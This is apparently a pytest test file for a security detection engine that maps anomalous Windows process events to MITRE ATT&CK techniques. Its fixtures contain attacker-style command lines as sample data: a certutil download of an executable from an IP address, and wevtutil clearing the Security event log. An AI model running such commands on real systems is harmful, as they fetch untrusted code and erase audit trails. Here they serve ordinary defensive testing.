"""What an anomaly may be is asked of the rules, by its most telling events."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from engine.errors import Problems
from engine.rule import Rule, Selection
from mitre.catalog import Catalog
from mitre.mapper import Mapper
from mitre.ranked import Answer, Likely, Ranked
from tests.engine.score.parts import ensemble, own, record, told
from vedette import mapper as learned
from vedette import rulesets
from vedette.lazy_mapper import LazyMapper
from vedette.rule_techniques import RuleProposals
from vedette.techniques import EVENTS, Proposals


@pytest.fixture(autouse=True)
def _cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))


def cleared(count: int = 3) -> list[Any]:
    """Starts of the tool that clears logs, of a kind that the model never saw."""
    command = r"C:\Windows\System32\wevtutil.exe cl Security"
    more = {"Image": r"C:\Windows\System32\wevtutil.exe", "CommandLine": command}
    return [record(340 * 60 + n, 1, **more) for n in range(count)]


def fetched() -> list[Any]:
    """Starts of a tool that fetches a file, which rules of Vedette's own look for."""
    command = "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe"
    more = {"Image": r"C:\Windows\System32\certutil.exe", "CommandLine": command}
    return [record(340 * 60 + n, 1, **more) for n in range(3)]


def test_an_anomaly_without_a_rule_lists_what_similar_rules_are_about() -> None:
    proposals = Proposals(LazyMapper(rulesets.load([], Selection()).rules, None, Problems()))
    one, _ = ensemble(techniques=proposals)
    (alert,) = told(one, fetched())
    proposed = own(alert)["attack"]["candidates"]
    catalog = Catalog.load()
    assert proposed
    assert all(catalog.technique(each["id"], 19) for each in proposed)
    assert all(each["because"] for each in proposed)
    sure = [each["confidence"] for each in proposed]
    assert sure == sorted(sure, reverse=True)


class Counting:
    """Stands for a mapper, and counts what it is asked."""

    fields: frozenset[str] = frozenset()

    def __init__(self) -> None:
        self.asked = 0

    def answer(self, text: str, **_: Any) -> Answer:
        assert "wevtutil" in text
        self.asked += 1
        other = Ranked("T1070", "Indicator Removal", ("stealth",), 0.3)
        sure = Ranked("T1685", "Disable", ("stealth",), 0.2 * self.asked)
        return Answer((sure, other), (Likely("stealth", 0.9 - 0.2 * self.asked),))


def test_few_events_are_asked_about_and_the_surest_answer_counts(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    counting = Counting()
    monkeypatch.setattr("vedette.mapper.mapper", lambda *_, **__: counting)
    many = [each for code in range(1, 9) for each in cleared_as(code)]
    one, _ = ensemble(techniques=Proposals(LazyMapper([], None, Problems())))
    (alert,) = told(one, many)
    assert counting.asked == EVENTS
    sure = {each["id"]: each["confidence"] for each in own(alert)["attack"]["candidates"]}
    assert sure == {"T1685": 0.6, "T1070": 0.3}
    assert own(alert)["attack"]["source"] == "mapper"


def cleared_as(code: int) -> list[Any]:
    return [record(340 * 60 + code, 5000 + code, CommandLine="wevtutil.exe cl Security")]


def test_too_few_rules_are_one_problem_and_no_failure() -> None:
    problems = Problems()

    def refused(*_: Any, **__: Any) -> Any:
        from engine.errors import InputError

        raise InputError("there are too few texts")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("vedette.mapper.mapper", refused)
        one, _ = ensemble(techniques=Proposals(LazyMapper([], None, problems)), alerts_a_day=2.0)
        alerts = told(one, [*cleared(), *[record(400 * 60, 4999)]])
    assert len(alerts) == 2
    assert [str(p) for p in problems] == [
        "no technique is proposed beside what rules name: there are too few texts"
    ]


def test_what_asks_of_anomalies_and_of_rules_shares_one_mapper_and_other_rules_reach_both(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    made: list[int] = []

    def making(rules: Sequence[Rule], **more: Any) -> Mapper:
        made.append(len(rules))
        return mapper(rules, **more)

    mapper = learned.mapper
    monkeypatch.setattr("vedette.mapper.mapper", making)
    rules = rulesets.load([], Selection()).rules
    shared = LazyMapper(rules, None, Problems())
    of_anomalies, of_rules = Proposals(shared), RuleProposals(shared)
    assert any(of_rules(rule.id) for rule in rules[:40])
    one, _ = ensemble(techniques=of_anomalies)
    assert own(told(one, fetched())[0])["attack"]["candidates"]
    assert made == [len(rules)]
    of_rules.adopt(rules[:100])
    one.reset()
    told(one, fetched())
    of_rules(rules[0].id)
    assert made == [len(rules), 100]
